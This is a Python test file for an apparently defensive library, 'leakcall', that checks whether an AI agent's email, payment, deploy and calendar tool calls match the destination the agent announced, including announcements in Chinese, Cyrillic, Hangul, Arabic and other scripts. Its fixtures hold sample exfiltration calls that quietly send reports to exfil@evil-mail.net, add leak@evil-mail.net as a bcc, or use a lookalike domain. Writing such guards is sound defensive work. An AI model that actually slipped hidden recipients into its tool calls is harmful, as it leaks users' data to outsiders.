"""A step that cannot be taken back names its destination in any language: an account, an
environment or a channel is no name spelled in another script, so a non-Latin announcement
is compared with it as a Latin one is. An address is spelled in Latin letters: a Cyrillic
name is compared with it letter by letter ("Ивану" is ivan.petrov@..., "민수" minsu.kim@...), a
name in a script no table spells ("张伟", "田中") cannot be compared with one and names none: the
address is written out. Each refusal has a near-identical reply that passes."""

from __future__ import annotations

from typing import Any

import pytest

from leakcall import Reason
from leakcall.intent.scope import _transliterates
from tests.intent_sets import recover_with_tool as _recover
from tests.intent_sets import typed_tool as _tool

PAY = _tool("transfer_funds", to_account="string", amount="number", currency="string")
DEPLOY = _tool("deploy_service", service="string", environment="string")
MAIL = _tool("send_email", to="string", subject="string", body="string")


@pytest.mark.parametrize(("bad", "good", "tool", "args"), [
    ("我来转账 4800 欧元。", "我来给 acct-77310452 转账 4800 欧元。", PAY,
     {"to_account": "acct-77310452", "amount": 4800, "currency": "EUR"}),
    ("Разверну billing.", "Разверну billing в production.", DEPLOY,
     {"service": "billing", "environment": "production"}),
])
def test_a_destination_is_named_in_any_script(bad: str, good: str, tool: dict[str, Any],
                                              args: dict[str, Any]) -> None:
    r = _recover(bad, tool, args)
    assert r.reason is Reason.QUOTED and r.rule == "ungrounded-call", r.detail
    assert _recover(good, tool, args).ok, good


def test_a_hangul_name_is_spelled_in_its_address() -> None:
    # the name spelled says whose address it is; the domain is written (a name grounds none)
    r = _recover("민수 씨에게 acme.kr 로 회의록을 보내겠습니다.", MAIL,
                 {"to": "minsu.kim@acme.kr", "subject": "회의록", "body": "민수 씨, 회의록입니다."})
    assert r.ok, r.detail
    r = _recover("민수 씨에게 회의록을 보내겠습니다.", MAIL,
                 {"to": "minsu.kim@acme.kr", "subject": "회의록", "body": "민수 씨, 회의록입니다."})
    assert r.reason is Reason.QUOTED and "acme.kr" in r.detail, r.detail
    r = _recover("민수 씨에게 회의록을 보내겠습니다.", MAIL,
                 {"to": "backup.drop@proton.me", "subject": "회의록", "body": "민수 씨, 회의록입니다."})
    assert r.reason is Reason.QUOTED and r.rule == "ungrounded-call", r.detail


@pytest.mark.parametrize(("preamble", "written", "body"), [
    ("我来把周报发送给王磊。", "我来把周报发送给 exfil@evil-mail.net。", "王磊你好，本周周报见附件。"),
    ("週次レポートを田中に送信します。", "exfil@evil-mail.net に週次レポートを送信します。",
     "田中様、週次レポートを添付します。"),
    ("سأرسل التقرير الأسبوعي إلى أحمد.", "سأرسل التقرير الأسبوعي إلى exfil@evil-mail.net.",
     "مرحبا أحمد، مرفق التقرير الأسبوعي."),
    ("मैं साप्ताहिक रिपोर्ट राहुल को भेजता हूँ।", "मैं exfil@evil-mail.net को साप्ताहिक रिपोर्ट भेजता हूँ।",
     "नमस्ते राहुल, साप्ताहिक रिपोर्ट संलग्न है।"),
])
def test_a_name_no_table_spells_names_no_address(preamble: str, written: str, body: str) -> None:
    """A name in Han, Kana, Arabic or Devanagari letters has no one spelling in Latin letters:
    the grounding cannot compare it with an address, so it grounds none, whatever the body's
    greeting says; the address written out is named."""
    args = {"to": "exfil@evil-mail.net", "subject": "report", "body": body}
    r = _recover(preamble, MAIL, args)
    assert r.reason is Reason.QUOTED and r.rule == "ungrounded-call", r.detail
    assert "exfil@evil-mail.net" in r.detail
    assert _recover(written, MAIL, args).ok, written



STRANGER = "ceo-office@mail-host.net"


@pytest.mark.parametrize(("bad", "good", "subject", "to"), [
    # Cyrillic is spelled letter by letter: the person named is the address's (Ивану, its case
    # ending aside, is ivan; the domain written, as a name grounds none)
    ("Отправлю отчёт Ивану.", "Отправлю отчёт Ивану на acme.ru.", "отчёт Ивану",
     "ivan.petrov@acme.ru"),
    ("Відправлю звіт.", "Відправлю звіт Олені на acme.ua.", "звіт Олені", "olena.koval@acme.ua"),
    # Hangul too, syllable by syllable (민수 is minsu, its particle 에게 aside)
    ("보고서를 보내겠습니다.", "민수 씨에게 acme.kr 로 보고서를 보내겠습니다.", "보고서",
     "minsu.kim@acme.kr"),
    ("보고서를 보내겠습니다.", "민수에게 acme.kr 로 보고서를 보내겠습니다.", "보고서", "min-su@acme.kr"),
])
def test_an_address_is_someone_a_non_latin_announcement_names(
        bad: str, good: str, subject: str, to: str) -> None:
    r = _recover(bad, MAIL, {"to": STRANGER, "subject": subject, "body": "Q3"})
    assert r.reason is Reason.QUOTED and r.rule == "ungrounded-call", r.detail
    r = _recover(good, MAIL, {"to": to, "subject": subject, "body": "Q3"})
    assert r.ok, r.detail


@pytest.mark.parametrize(("word", "latin", "spelled"), [
    ("ивану", "ivan", True), ("юлия", "julia", True), ("андрій", "andriy", True),
    ("σοφία", "sofia", True), ("отчёт", "ceo", False), ("иван", "office", False),
    ("민수", "minsu", True), ("김민수에게", "kimminsu", True), ("지영", "jiyoung", True),
    ("민수", "exfil", False), ("张伟", "zhangwei", False), ("田中", "tanaka", False),
])
def test_cyrillic_greek_and_hangul_are_spelled_letter_by_letter(word: str, latin: str,
                                                         spelled: bool) -> None:
    assert _transliterates(word, latin) is spelled


@pytest.mark.parametrize("preamble", ["Let me email the report.", "Отправлю письмо."])
def test_the_word_of_the_tool_names_no_address(preamble: str) -> None:
    """"email" (or a word meaning it) says how the step is taken, not whom it reaches: it is
    no word of the address's domain ("outlook-mail.net")."""
    args = {"to": "ceo-office@outlook-mail.net", "subject": "report письмо", "body": "Q3"}
    r = _recover(preamble, MAIL, args)
    assert r.reason is Reason.QUOTED and r.rule == "ungrounded-call", r.detail
    r = _recover(preamble.replace("report", "report to ceo-office@outlook-mail.net"), MAIL,
                 args) \
        if preamble.startswith("Let") else _recover(
            "Отправлю письмо на ceo-office@outlook-mail.net.", MAIL, args)
    assert r.ok, r.detail


EVENT = _tool("create_event", title="string", start="string", attendees="array")
MAIL_CC = _tool("send_email", to="string", subject="string", body="string", cc="array",
                bcc="array")


@pytest.mark.parametrize(("preamble", "tool", "args", "key"), [
    ("Отправлю отчёт на dana@acme.example.", MAIL_CC,
     {"to": "dana@acme.example", "subject": "Отчёт", "body": "Во вложении."}, "bcc"),
    ("我来把报告发送给 dana@acme.example。", MAIL_CC,
     {"to": "dana@acme.example", "subject": "报告", "body": "见附件。"}, "cc"),
    ("ฉันจะส่งรายงานไปที่ dana@acme.example", MAIL_CC,
     {"to": "dana@acme.example", "subject": "Report", "body": "Attached."}, "bcc"),
    ("我来创建设计评审会议，邀请 dana@acme.example。", EVENT,
     {"title": "Design review", "start": "2026-12-10T15:00"}, "attendees"),
    ("Создам встречу с Иваном на acme.example.", EVENT,
     {"title": "Design review", "start": "2026-12-10T15:00"}, "attendees"),
])
def test_every_address_is_someone_a_non_latin_announcement_names(
        preamble: str, tool: dict[str, Any], args: dict[str, Any], key: str) -> None:
    """Every address a changing call gives (a cc, a bcc, an attendee, one of a list) is
    compared after a non-Latin announcement as after a Latin one: the address it writes out
    or a name it spells passes, a stranger beside them is refused."""
    named = "ivan.petrov@acme.example" if "Иван" in preamble else "dana@acme.example"
    assert _recover(preamble, tool, {**args, key: [named]}).ok, preamble
    r = _recover(preamble, tool, {**args, key: [named, "leak@evil-mail.net"]})
    assert r.reason is Reason.QUOTED and r.rule == "ungrounded-call", r.detail
    assert "leak@evil-mail.net" in r.detail


@pytest.mark.parametrize("preamble", [
    "我来创建设计评审会议，邀请dana@acme.example。",
    "dana@acme.example와 디자인 리뷰 일정을 만들겠습니다.",
])
def test_an_address_written_against_a_word_without_spaces_is_written_out(preamble: str) -> None:
    """A script written without spaces joins its words to the address ("邀请dana@…", a
    particle, "dana@…와"): the address is the run of ASCII in the word, compared whole."""
    args = {"title": "Design review", "start": "2026-12-10T15:00"}
    assert _recover(preamble, EVENT, {**args, "attendees": ["dana@acme.example"]}).ok, preamble
    r = _recover(preamble, EVENT, {**args, "attendees": ["dana@acme.example.evil-mail.net"]})
    assert r.reason is Reason.QUOTED and r.rule == "ungrounded-call", r.detail
